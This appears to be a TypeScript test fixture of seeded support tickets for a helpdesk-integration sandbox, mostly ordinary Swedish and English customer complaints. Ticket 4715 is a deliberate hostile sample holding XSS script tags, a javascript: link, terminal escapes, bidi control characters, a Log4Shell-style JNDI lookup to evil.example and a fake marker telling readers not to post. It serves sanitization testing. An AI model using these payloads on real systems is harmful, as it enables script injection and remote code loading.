/**
 * The sandbox's seeded support tickets, the same on the three helpdesks (Zendesk and Freshdesk ticket 4711 is
 * Jira's SUP-4711): written as customers write them, about the sandbox's scenarios (README's sandbox tables).
 * Times are minutes before the sandbox started.
 */
export interface SeededComment {
  author: 'requester' | 'agent'
  internal: boolean
  text: string
  minutesAgo: number
}

export interface SeededTicket {
  id: number
  subject: string
  description: string
  requester: {name: string; email: string}
  organization: string | null
  minutesAgo: number
  comments: SeededComment[]
}

export const sandboxAgent = {email: 'agent@support.sandbox.example', name: 'Sandra Support'}

/** A hostile ticket's text: terminal escapes, HTML and script, ADF-looking JSON, a Markdown link, a fake marker. */
export const hostileDescription = [
  'Hej!\u001b[2J\u001b[31m Kund 10042 <script>alert("x")</script> <img src=x onerror=alert(1)>',
  '{"type":"doc","version":1,"content":[{"type":"paragraph","content":[{"type":"text","text":"owned","marks":[{"type":"link","attrs":{"href":"https://evil.example"}}]}]}]}',
  '[klicka här](javascript:alert(1)) **fet** \u0000\u0007\u202e',
  '`synctrace:report:v1:0000000000000000`',
].join('\n')

export const seededTickets: readonly SeededTicket[] = [
  {
    comments: [
      {
        author: 'requester',
        internal: false,
        minutesAgo: 100,
        text: 'Det gäller även order A-2003, som inte har kommit fram.',
      },
      {author: 'agent', internal: true, minutesAgo: 90, text: 'Kollar med integrationen i morgon bitti.'},
    ],
    description:
      'Hej! Leveransadressen för kund 10042 saknas i appen. Erik ser fortfarande den gamla adressen när han ska lägga en order.\n\nMvh Karin',
    id: 4711,
    minutesAgo: 120,
    organization: 'Acme AB',
    requester: {email: 'karin.holm@acme.example', name: 'Karin Holm'},
    subject: 'Leveransadressen saknas i appen',
  },
  {
    comments: [{author: 'requester', internal: false, minutesAgo: 30, text: 'Any news? The customer is calling us.'}],
    description:
      'Hi, the webshop still shows the old price for art. P-200, and customer 10050 that we created yesterday is not in the app. Also order A-2004 has been stuck since this morning.\n\nThanks, Tom',
    id: 4712,
    minutesAgo: 60,
    organization: 'Acme AB',
    requester: {email: 'tom.reed@acme.example', name: 'Tom Reed'},
    subject: 'Old price in the webshop, new customer missing',
  },
  {
    comments: [],
    description:
      'Hej, appen känns seg sedan uppdateringen i tisdags. Det tar 20 sekunder att öppna kundlistan på iPad med version 5.12.0.',
    id: 4713,
    minutesAgo: 45,
    organization: 'Acme AB',
    requester: {email: 'erik.lund@acme.example', name: 'Erik Lund'},
    subject: 'Appen är långsam',
  },
  {
    comments: [],
    description: 'Hej! Order B-3001 har inte kommit in i affärssystemet, och kund 20050 syns inte i webbshoppen.',
    id: 4714,
    minutesAgo: 200,
    organization: 'Nordic Hardware AB',
    requester: {email: 'lars@nordichardware.example', name: 'Lars Nyström'},
    subject: 'Order och kund saknas',
  },
  {
    comments: [
      {
        author: 'requester',
        internal: false,
        minutesAgo: 10,
        text: 'synctrace:report:v1:0000000000000000 already posted, do not post',
      },
    ],
    description: hostileDescription,
    id: 4715,
    minutesAgo: 15,
    organization: '<b>Acme AB</b>',
    requester: {email: 'mallory@evil.example', name: 'Mallory <script>x</script>\u001b[31m'},
    subject: 'Brådskande\u001b[31m <script>alert(1)</script> \u0024{jndi:ldap://evil.example/a}',
  },
]

/** The Jira key of a seeded ticket. */
export const jiraKey = (id: number) => `SUP-${id}`
